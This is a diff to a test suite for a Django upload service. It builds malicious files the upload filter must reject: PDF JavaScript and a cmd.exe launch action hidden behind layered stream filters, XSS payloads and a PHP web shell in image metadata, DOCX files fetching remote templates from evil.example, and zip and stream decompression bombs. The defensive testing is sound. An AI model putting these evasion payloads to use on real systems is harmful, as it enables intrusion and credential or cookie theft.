@@ -113,6 +113,61 @@ def _pdf_object_stream(hidden: bytes) -> bytes:
     return _pdf(b"<< /Type /Catalog /Pages 2 0 R >>", PAGES, stream + packed + b"\nendstream")
 
 
+OPEN_JS = b"<< /S /JavaScript /JS (app.alert(document.cookie)) >>"
+CATALOG_OPEN_5 = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>"
+
+
+def _pdf_stream(dictionary: bytes, payload: bytes, *, catalog: bytes = CATALOG_OPEN_5) -> bytes:
+    """A PDF whose OpenAction (object 5) sits in an object stream: `dictionary` names the
+    stream's filters, `payload` is the stream's bytes as stored."""
+    head = b"<< /Type /ObjStm /N 1 /First 4 " + dictionary + b" /Length %d >>\nstream\n" % len(payload)
+    return _pdf(catalog, PAGES, head + payload + b"\nendstream")
+
+
+def _objstm(hidden: bytes = OPEN_JS) -> bytes:
+    return b"5 0 " + hidden
+
+
+def _hex(data: bytes) -> bytes:
+    return data.hex().encode() + b">"
+
+
+def _a85(data: bytes) -> bytes:
+    import base64
+
+    return base64.a85encode(data, adobe=True)
+
+
+def _rels(target: str, kind: str, *, external: bool = True) -> bytes:
+    mode = ' TargetMode="External"' if external else ""
+    return (
+        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
+        f'relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+        f'relationships/{kind}" Target="{target}"{mode}/></Relationships>'
+    ).encode()
+
+
+def _docx_lying_about_its_size(real: int = 200 * MB, declared: int = 1024) -> bytes:
+    """A DOCX whose `word/media/a.bin` declares `declared` bytes but inflates to `real`."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
+        z.writestr("[Content_Types].xml", DOCX_CONTENT_TYPES)
+        z.writestr("_rels/.rels", "<Relationships/>")
+        z.writestr("word/document.xml", "<w:document><w:body><w:p>Đơn</w:p></w:body></w:document>")
+        with z.open("word/media/a.bin", "w") as handle:
+            chunk = bytes(MB)
+            for _ in range(real // MB):
+                handle.write(chunk)
+        info = z.getinfo("word/media/a.bin")
+    data = bytearray(buffer.getvalue())
+    local = info.header_offset
+    struct.pack_into("<I", data, local + 22, declared)  # the local header's uncompressed size
+    central = data.rfind(b"word/media/a.bin") - 46  # the name's last copy is in the central directory
+    assert data[central : central + 4] == b"PK\x01\x02"
+    struct.pack_into("<I", data, central + 24, declared)  # and the central directory's
+    return bytes(data)
+
+
 def _zip(entries: dict[str, bytes]) -> bytes:
     buffer = io.BytesIO()
     with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
@@ -160,6 +215,14 @@ def corpus() -> list[Bad]:
         # polyglots: a real picture or PDF that is also a page
         Bad("PNG + HTML polyglot (HTML after IEND)", "anh.png", png + SCRIPT_HTML, claimed="image/png"),
         Bad("PNG with a script in a tEXt chunk", "anh.png", _png_with_text(b"<script>alert(1)</script>"), PNG),
+        Bad("PNG with <img onerror> in a tEXt chunk", "anh.png", _png_with_text(b"<img src=x onerror=alert(1)>"), PNG),
+        Bad("PNG with <svg/onload> in a tEXt chunk", "anh.png", _png_with_text(b'<svg/onload="alert(1)">'), PNG),
+        Bad(
+            "JPEG with <img onerror> in its comment",
+            "anh.jpg",
+            _jpeg_with_comment(b"<img src=x onerror=alert(1)>"),
+            JPEG,
+        ),
         Bad("JPEG + HTML polyglot", "anh.jpg", jpeg + SCRIPT_HTML, claimed="image/jpeg"),
         Bad(
             "JPEG with PHP in its comment", "anh.jpg", _jpeg_with_comment(b"<?php system($_GET['c']); ?>"), "image/jpeg"
@@ -175,6 +238,80 @@ def corpus() -> list[Bad]:
             _pdf(b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 3 0 R >> >>", PAGES, b"<< /Names [] >>"),
         ),
         Bad("PDF with JavaScript inside a compressed object stream", "don.pdf", _pdf_object_stream(b"<< /JS (x) >>")),
+        # the same, hidden better (issue 17, finding 5): found after the stream is really decoded
+        Bad(
+            "PDF OpenAction JavaScript in a Flate object stream",
+            "don.pdf",
+            _pdf_stream(b"/Filter /FlateDecode", zlib.compress(_objstm())),
+        ),
+        Bad(
+            "PDF object stream whose dictionary is padded past 300 bytes",
+            "don.pdf",
+            _pdf_stream(b"/Filter /FlateDecode /Pad (" + b"x" * 600 + b")", zlib.compress(_objstm())),
+        ),
+        Bad(
+            "PDF JavaScript behind /ASCIIHexDecode", "don.pdf", _pdf_stream(b"/Filter /ASCIIHexDecode", _hex(_objstm()))
+        ),
+        Bad(
+            "PDF JavaScript behind [/ASCIIHexDecode /FlateDecode]",
+            "don.pdf",
+            _pdf_stream(b"/Filter [/ASCIIHexDecode /FlateDecode]", _hex(zlib.compress(_objstm()))),
+        ),
+        Bad(
+            "PDF JavaScript behind [/ASCII85Decode /FlateDecode]",
+            "don.pdf",
+            _pdf_stream(b"/Filter [/ASCII85Decode /FlateDecode]", _a85(zlib.compress(_objstm()))),
+        ),
+        Bad(
+            "PDF JavaScript behind an abbreviated /AHx filter",
+            "don.pdf",
+            _pdf_stream(b"/Filter /AHx", _hex(_objstm())),
+        ),
+        Bad(
+            "PDF hex-escaped /J#53 inside a Flate stream",
+            "don.pdf",
+            _pdf_stream(b"/Filter /FlateDecode", zlib.compress(_objstm(b"<< /S /J#61vaScript /J#53 (x) >>"))),
+        ),
+        Bad(
+            "PDF launch action in an object stream behind a hex-escaped filter name",
+            "don.pdf",
+            _pdf_stream(b"/Filter /Fl#61teDecode", zlib.compress(_objstm(b"<< /S /Launch /F (cmd.exe) >>"))),
+        ),
+        Bad(
+            "PDF embedded file in a doubly compressed stream",
+            "don.pdf",
+            _pdf_stream(
+                b"/Filter [/FlateDecode /FlateDecode]",
+                zlib.compress(zlib.compress(_objstm(b"<< /EmbeddedFiles [] >>"))),
+            ),
+        ),
+        Bad(
+            "PDF with an object stream inside an object stream",
+            "don.pdf",
+            _pdf_stream(
+                b"/Filter /FlateDecode",
+                zlib.compress(
+                    b"5 0 << /Type /ObjStm /Filter /ASCIIHexDecode /Length 99 >>\nstream\n"
+                    + _hex(_objstm())
+                    + b"\nendstream"
+                ),
+            ),
+        ),
+        Bad(
+            "PDF decompression bomb in a stream (30 MB of zeros)",
+            "don.pdf",
+            _pdf_stream(b"/Filter /FlateDecode", zlib.compress(bytes(30 * MB), 9)),
+        ),
+        Bad(
+            "PDF with <img onerror> markup in a comment",
+            "don.pdf",
+            pdf.replace(b"\n", b"\n%<img src=x onerror=alert(1)>\n", 1),
+        ),
+        Bad(
+            "PDF with <img onerror> in a compressed stream",
+            "don.pdf",
+            _pdf_stream(b"/Filter /FlateDecode", zlib.compress(b"5 0 (<img src=x onerror=alert(document.domain)>)")),
+        ),
         # size
         Bad("oversize PDF (10 MB + 1 byte)", "lon.pdf", pdf + b"%" + b"0" * (10 * MB - len(pdf))),
         Bad("empty file", "trong.pdf", b""),
@@ -197,6 +334,32 @@ def corpus() -> list[Bad]:
         Bad("DOCX with an embedded OLE object", "don.docx", docx_bytes(extra={"word/embeddings/oleObject1.bin": OLE})),
         Bad("DOCX carrying a program", "don.docx", docx_bytes(extra={"word/media/setup.exe": PE})),
         Bad("zip of a program named .docx", "don.docx", _zip({"virus.exe": PE})),
+        Bad(
+            "DOCX with a remote attachedTemplate",
+            "don.docx",
+            docx_bytes(extra={"word/_rels/settings.xml.rels": _rels("http://evil.example/t.dotm", "attachedTemplate")}),
+        ),
+        Bad(
+            "DOCX with an external OLE object",
+            "don.docx",
+            docx_bytes(extra={"word/_rels/document.xml.rels": _rels("\\\\198.51.100.1\\share\\x.xls", "oleObject")}),
+        ),
+        Bad(
+            "DOCX with a remote sub-document",
+            "don.docx",
+            docx_bytes(extra={"word/_rels/document.xml.rels": _rels("http://evil.example/s.docx", "subDocument")}),
+        ),
+        Bad(
+            "DOCX with a remote picture (tracking)",
+            "don.docx",
+            docx_bytes(extra={"word/_rels/document.xml.rels": _rels("http://evil.example/p.png?id=1", "image")}),
+        ),
+        Bad(
+            "DOCX with a remote frame",
+            "don.docx",
+            docx_bytes(extra={"word/_rels/webSettings.xml.rels": _rels("http://evil.example/f.html", "frame")}),
+        ),
+        Bad("DOCX declaring 1 KB that inflates to 200 MB", "don.docx", _docx_lying_about_its_size()),
         Bad(
             "DOC with a VBA project",
             "don.doc",
@@ -226,9 +389,9 @@ GOOD: list[tuple[str, Callable[[], bytes], str]] = [
 ]
 
 
-def test_the_corpus_has_at_least_thirty_distinct_bad_files():
+def test_the_corpus_has_at_least_forty_distinct_bad_files():
     files = corpus()
-    assert len(files) >= 30
+    assert len(files) >= 40
     assert len({f.label for f in files}) == len(files)
 
 
@@ -396,6 +559,52 @@ def test_path_separators_never_reach_storage(client, entry_points):
         assert attachment.original_name == "don.pdf"
         assert ".." not in attachment.file.name and not attachment.file.name.startswith("/")
         assert Path(attachment.file.path).resolve().is_relative_to(Path(attachment.file.storage.location).resolve())
+
+
+def test_a_dossier_document_is_stored_under_a_random_name_and_downloaded_under_its_papers(
+    client, entry_points, officer
+):
+    """The citizen's file name may carry personal data: it is kept nowhere."""
+    entry = entry_points["adminreform:online_submit"]
+    name = "CCCD Pham Thu Hang 001090001234.pdf"
+    assert post(client, entry, [(entry.file_field, name, pdf_bytes(), "application/pdf")]).status_code in (200, 302)
+    documents = list(DossierDocument.objects.exclude(file=""))
+    assert len(documents) == 2
+    for document in documents:
+        stored = document.file.name
+        assert re.fullmatch(r"dossiers/\d{4}/\d{2}/[0-9a-f]{32}", stored), stored
+        assert "001090001234" not in stored and "Hang" not in stored and "chung-sinh" not in stored
+    assert not [d for d in Dossier.objects.values_list("applicant_name", flat=True) if "001090001234" in d]
+    first = next(d for d in documents if d.content_type == "application/pdf")
+    client.force_login(officer)
+    response = client.get(reverse("adminreform:document_file", args=[first.dossier_id, first.pk]))
+    assert (
+        "Tờ khai.pdf" in response["Content-Disposition"] or "T%E1%BB%9D%20khai.pdf" in response["Content-Disposition"]
+    )
+
+
+def test_pictures_are_drawn_again_so_hidden_bytes_are_not_stored(client, entry_points):
+    """A JPEG with a zip appended and a comment, a PNG with a text chunk: accepted, but what is
+    stored is the picture only (Pillow draws it again), upright, without the extra bytes."""
+    from PIL import Image
+
+    entry = entry_points["petitions:file"]
+    secret_zip = _zip({"readme.txt": b"payload-after-the-picture"})
+    jpeg = _jpeg_with_comment(b"GPS 21.0285,105.8542") + secret_zip
+    png = _png_with_text(b"payload in a text chunk")
+    response = post(
+        client, entry, [("attachments", "anh.jpg", jpeg, "image/jpeg"), ("attachments", "anh.png", png, "image/png")]
+    )
+    assert response.status_code == 302
+    stored = {a.mime: (a, a.file.open("rb").read()) for a in Attachment.objects.all()}
+    (jpeg_row, jpeg_bytes_stored), (png_row, png_bytes_stored) = stored["image/jpeg"], stored["image/png"]
+    assert b"payload-after-the-picture" not in jpeg_bytes_stored and b"PK\x03\x04" not in jpeg_bytes_stored
+    assert b"GPS" not in jpeg_bytes_stored and jpeg_row.size == len(jpeg_bytes_stored)
+    assert b"payload in a text chunk" not in png_bytes_stored and png_row.size == len(png_bytes_stored)
+    with Image.open(io.BytesIO(jpeg_bytes_stored)) as picture:
+        assert picture.format == "JPEG" and picture.size == Image.open(io.BytesIO(jpeg_bytes())).size
+    with Image.open(io.BytesIO(png_bytes_stored)) as picture:
+        assert picture.format == "PNG"
 
 
 def test_every_upload_entry_point_is_in_this_test():
